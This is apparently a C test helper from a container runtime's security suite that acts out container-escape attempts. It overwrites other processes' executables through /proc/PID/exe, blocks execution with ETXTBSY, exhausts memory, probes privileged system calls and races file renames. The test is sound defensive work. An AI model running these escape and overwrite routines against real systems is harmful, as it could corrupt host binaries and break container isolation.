/* tests/security/probe.c -- what an attacker would do inside a container, as one static program.
 *
 *   probe fds                prints the open descriptors as "NUMBER TARGET", without the one it reads them
 * with probe exe SECONDS        pins the executable of every other process that it sees and tries to write
 * to it; prints "pinned PATH device D inode N" and "wrote PATH" probe busy SECONDS       the same, but opens
 * without a pause, so that nobody can execute what it got hold of (ETXTBSY) probe eat MB             touches
 * that much memory, prints "ate" probe calls              tries system calls that a default container has no
 * business with; prints "NAME ERRNO" probe swap A B SECONDS   exchanges two names as fast as it can probe
 * write PATH TEXT    one write without creating or truncating; prints "0" or the errno Blocks as long as it
 * is told to.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define PINS 64

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int list_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;

	if (!d)
		return 1;
	while ((de = readdir(d))) {
		char target[4096];
		ssize_t n;

		if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(d))
			continue;
		n = readlinkat(dirfd(d), de->d_name, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = 0;
		printf("%s %s\n", de->d_name, target);
	}
	closedir(d);
	return 0;
}

struct pin {
	int fd;
	struct stat st;
	char name[256];
	int wrote;
};

static void pin_one(struct pin *pins, size_t *n, const struct stat *self, const char *pid)
{
	char path[300];
	struct pin *p = &pins[*n];
	ssize_t len;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	p->fd = open(path, O_RDONLY | O_CLOEXEC);
	if (p->fd < 0)
		return;
	if (fstat(p->fd, &p->st) < 0 || (p->st.st_dev == self->st_dev && p->st.st_ino == self->st_ino)) {
		close(p->fd);
		return;
	}
	for (size_t i = 0; i < *n; i++)
		if (pins[i].st.st_dev == p->st.st_dev && pins[i].st.st_ino == p->st.st_ino) {
			close(p->fd);
			return;
		}
	len = readlink(path, p->name, sizeof p->name - 1);
	p->name[len < 0 ? 0 : len] = 0;
	p->wrote = 0;
	printf("pinned %s device %ju inode %ju\n", p->name, (uintmax_t)p->st.st_dev,
	       (uintmax_t)p->st.st_ino);
	(*n)++;
}

/* One attempt to get the pinned file for writing; a refused one holds off execve for its duration too. */
static void try_write(struct pin *p)
{
	char path[64];
	int fd;

	snprintf(path, sizeof path, "/proc/self/fd/%d", p->fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (lseek(fd, 0, SEEK_END) >= 0 && write(fd, "owned", 5) == 5) {
		p->wrote = 1;
		printf("wrote %s\n", p->name);
	}
	close(fd);
}

static int attack_exe(double seconds, int rounds)
{
	static struct pin pins[PINS];
	size_t n = 0;
	struct stat self;
	double end = now() + seconds;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/proc/self/exe", &self) < 0)
		return 1;
	puts("ready");
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		while (d && (de = readdir(d)))
			if (de->d_name[0] >= '1' && de->d_name[0] <= '9' && n < PINS)
				pin_one(pins, &n, &self, de->d_name);
		if (d)
			closedir(d);
		for (size_t i = 0; i < n; i++)
			for (int j = 0; j < rounds && !pins[i].wrote; j++)
				try_write(&pins[i]);
	}
	puts("done");
	return 0;
}

static int eat(size_t mb)
{
	for (size_t i = 0; i < mb; i++) {
		char *p = malloc(1 << 20);

		if (!p)
			return 1;
		for (size_t j = 0; j < 1 << 20; j += 4096)
			((volatile char *)p)[j] = 1;
	}
	puts("ate");
	return 0;
}

#define CALL(name, ...)                                                                                     \
	do {                                                                                                \
		errno = 0;                                                                                  \
		long r_ = syscall(SYS_##name, ##__VA_ARGS__);                                               \
		printf(#name " %d\n", r_ < 0 ? errno : 0);                                                  \
	} while (0)

static int calls(void)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	CALL(getppid);
	CALL(acct, NULL);
	CALL(add_key, "user", "a", "b", 1, KEY_SPEC_SESSION_KEYRING);
	CALL(bpf, 0, NULL, 0);
	CALL(clock_settime, CLOCK_REALTIME, NULL);
	CALL(delete_module, "nothing", 0);
	CALL(finit_module, -1, "", 0);
	CALL(fsopen, "tmpfs", 0);
	CALL(init_module, NULL, 0, "");
	CALL(io_uring_setup, 1, NULL);
	CALL(kexec_load, 0, 0, NULL, 0);
	CALL(keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
	CALL(mount, "t", "/tmp", "tmpfs", 0, NULL);
	CALL(mount_setattr, -1, "", 0, NULL, 0);
	CALL(move_mount, -1, "", -1, "", 0);
	CALL(open_by_handle_at, -1, NULL, 0);
	CALL(open_tree, -1, "/", 0);
	CALL(perf_event_open, NULL, 0, -1, -1, 0);
	CALL(pivot_root, "/", "/");
	CALL(quotactl, 0, NULL, 0, NULL);
	CALL(reboot, 0, 0, 0, NULL);
	CALL(request_key, "user", "a", NULL, 0);
	CALL(setdomainname, "x", 1);
	CALL(setns, -1, 0);
	CALL(settimeofday, NULL, NULL);
	CALL(swapon, "/nothing", 0);
	CALL(swapoff, "/nothing");
	CALL(syslog, 3, NULL, 0);
	CALL(umount2, "/proc", 0);
	CALL(unshare, CLONE_NEWUSER);
	CALL(unshare, CLONE_NEWNS);
	CALL(userfaultfd, 0);
	CALL(vhangup);
	return 0;
}

static int swap(const char *a, const char *b, double seconds)
{
	double end = now() + seconds;

	while (now() < end)
		for (int i = 0; i < 100; i++)
			syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
	return 0;
}

static int write_one(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC), r = 0;

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		r = errno;
	printf("%d\n", r);
	return 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	if (strcmp(verb, "fds") == 0)
		return list_fds();
	if (strcmp(verb, "exe") == 0 && argc == 3)
		return attack_exe(strtod(argv[2], NULL), 1);
	if (strcmp(verb, "busy") == 0 && argc == 3)
		return attack_exe(strtod(argv[2], NULL), 2000);
	if (strcmp(verb, "eat") == 0 && argc == 3)
		return eat(strtoul(argv[2], NULL, 10));
	if (strcmp(verb, "calls") == 0)
		return calls();
	if (strcmp(verb, "swap") == 0 && argc == 5)
		return swap(argv[2], argv[3], strtod(argv[4], NULL));
	if (strcmp(verb, "write") == 0 && argc == 4)
		return write_one(argv[2], argv[3]);
	fprintf(stderr, "probe: unknown or incomplete verb '%s'\n", verb);
	return 2;
}
